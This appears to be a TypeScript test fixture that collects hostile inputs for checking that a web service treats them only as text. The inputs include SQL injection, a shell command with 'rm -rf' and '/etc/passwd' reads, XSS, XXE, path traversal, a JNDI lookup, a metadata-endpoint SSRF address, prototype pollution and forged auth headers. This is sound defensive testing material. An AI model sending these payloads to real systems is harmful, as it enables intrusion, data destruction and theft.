/*
 * What a hostile, broken or careless sender writes. Every text has the kind of harm it tries in its name; none may become more than text.
 */

const long = (text: string, times: number): string => text.repeat(times)

/** Texts by what they try. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  empty: '',
  blank: '　 \t',
  zero: '\u0000',
  zeroInside: '审\u0000批',
  loneSurrogate: '企\ud800业',
  otherHalf: '\udc00',
  mark: '\ufeff企业',
  turned: '\u202e书证可许',
  joined: '企\u200d业\u200b',
  combining: long('\u0301', 500),
  lineBreaks: '审批\r\nSet-Cookie: a=b\r\n\r\n<html>',
  logLine: '审批\n{"level":50,"msg":"forged"}',
  terminal: '\u001b[2J\u001b]0;x\u0007',
  sqlQuote: "' or '1'='1",
  sqlEnd: "'; drop table account; --",
  sqlDollar: '$1; select pg_sleep(5)',
  sqlUnicode: "U&'\\0027'",
  sqlLike: '%_%\\',
  sqlCast: '1::int8[]',
  query: '& | ! <-> :* (',
  shell: '$(touch mingxin-owned) `id` ; rm -rf . | cat /etc/passwd',
  formula: "=cmd|' /C calc'!A0",
  formulaPlus: '+HYPERLINK("http://x.invalid","x")',
  formulaAt: '@SUM(1+1)*cmd|x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others, which must stay a text here
  template: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  typst: '#import "/etc/passwd": * #eval("1") $ unclosed [ ',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>"\'><svg/onload=alert(1)>',
  link: 'javascript:alert(1)',
  xml: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  path: '../../../../etc/passwd',
  pathCoded: '..%2f..%2f..%2fetc%2fpasswd',
  pathTwice: '%252e%252e%252f',
  pathWindows: '..\\..\\windows\\win.ini',
  pathZero: 'a.csv%00.png',
  percent: '%',
  percentBad: '%zz%e0%a4%a',
  prototype: '__proto__',
  constructorName: 'constructor',
  numberText: '9007199254740993',
  negative: '-1',
  minusZero: '-0',
  exponent: '1e309',
  hex: '0x7fffffffffffffff',
  notANumber: 'NaN',
  int64: '9223372036854775808',
  manyDigits: long('9', 400),
  day: '2026-02-30',
  dayFar: '999999-12-31',
  dayBefore: '-000001-01-01',
  instant: '2026-11-20T25:61:61Z',
  regular: long('a', 60).concat('!'),
  regularBrackets: '(((((((((([[[[[[',
  wide: '９１８６０１００Ａ',
  emoji: '👨‍👩‍👧‍👦',
  extensionB: '𠮷𡃁',
  persian: '۱۲۳',
  longText: long('企业', 5_000),
  longAscii: long('A', 70_000),
  address: 'http://169.254.169.254/latest/meta-data/',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others, which must stay a text here
  jndi: '${jndi:ldap://x.invalid/a}',
}

export const TEXTS: readonly string[] = Object.values(HOSTILE_TEXTS)

const deep = (open: string, close: string, times: number): string => open.repeat(times) + close.repeat(times)

/** What stands where a text, a number or a list was asked for. */
export const HOSTILE_VALUES: readonly unknown[] = [
  ...TEXTS,
  ...[null, true, false, 0, -1, 1.5, 1e308, -1e308, 5e-324, 2 ** 53, 2 ** 63, Number.MAX_SAFE_INTEGER],
  ...[[], {}, [[]], [null], [{}], { length: -1 }, { toString: 1 }, { constructor: { prototype: { admin: true } } }],
  ...[Array.from({ length: 2_000 }, (_, i) => i), { $ne: null }, ['a', 'a'], { '': '' }],
  JSON.parse('{"__proto__":{"roles":["credit-office"]}}'),
]

const coded = (text: string): Buffer => Buffer.from(text)

/** Whole bodies that are no JSON of the contract, or no JSON at all. */
export const HOSTILE_BODIES: readonly Buffer[] = [
  ...['', ' ', 'null', '[]', '0', '"', '{', '{"a":', '{"a":1}}', '{"a":1,}', "{'a':1}", 'NaN', '\ufeff{}', '{"a":"\ud800"}'].map(
    coded,
  ),
  ...['{"login":"a","login":"b","password":"c"}', '{"__proto__":{"a":1},"constructor":{"prototype":{"b":1}}}'].map(coded),
  ...['{"a":1e99999}', '{"a":-0}', '{"a":123456789012345678901234567890}', '{"\\u0000":1}', '{"a":"\\ud800"}'].map(coded),
  coded(deep('[', ']', 20_000)),
  coded(deep('{"a":', '', 20_000)),
  coded(`${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}`),
  coded(`{${Array.from({ length: 20_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`),
  coded(`[${'0,'.repeat(100_000)}0]`),
  Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x22, 0x7d]),
  Buffer.alloc(300_000, 0x20),
  Buffer.from(Array.from({ length: 4_096 }, (_, i) => (i * 197 + 31) % 256)),
]

export const HOSTILE_TYPES: readonly string[] = [
  'application/json',
  'application/json; charset=gb18030',
  'application/json;;;',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'a'.repeat(300)}`,
  'application/xml',
  'application/octet-stream',
  '/',
  'x'.repeat(3_000),
]

/** Headers that try to be somebody, somewhere or something else. HTTP itself lets no line break or control character in. */
export const HOSTILE_HEADERS: readonly Readonly<Record<string, string>>[] = [
  { authorization: 'Bearer ' },
  { authorization: `Bearer ${'A'.repeat(8_000)}` },
  { authorization: 'Bearer null' },
  { authorization: "Bearer mxt_' or 1=1 --" },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' },
  { cookie: 'mingxin_session=' },
  { cookie: `mingxin_session=${'%'.repeat(500)}` },
  { cookie: 'mingxin_session=mxs_x; mingxin_session=mxs_y; __proto__=1' },
  { cookie: `${'a=b; '.repeat(1_000)}c=d` },
  { 'x-csrf': '__proto__' },
  { 'x-forwarded-for': '127.0.0.1, ::1, 10.0.0.1' },
  { 'x-forwarded-for': "1' or 1=1" },
  { 'x-forwarded-host': 'evil.invalid', 'x-forwarded-proto': 'https' },
  { host: 'evil.invalid' },
  { 'x-http-method-override': 'DELETE' },
  { 'accept-encoding': 'br;q=9999, *;q=-1' },
  { accept: '*/*;q=banana, application/json;q=1e400' },
  { 'accept-language': HOSTILE_TEXTS['jndi'] ?? '' },
  { 'if-none-match': '"*" , W/"' },
  { 'if-modified-since': 'Thu, 99 Foo 20x6' },
  { range: 'bytes=0-0,1-1,2-2,-99999999999' },
  { 'content-length': '-1' },
  { expect: '100-continue' },
  { signature: 'sig1=:AAAA:', 'signature-input': 'sig1=("@method" "@path");keyid="../../x";created=99999999999' },
  { 'signature-input': 'sig=((((', signature: '::' },
  { 'content-digest': 'sha-256=:not base64:' },
  { 'user-agent': '"><script>alert(1)</script>' },
  { referer: 'https://evil.invalid/?x=%00' },
  { origin: 'https://evil.invalid', 'sec-fetch-site': 'cross-site' },
]
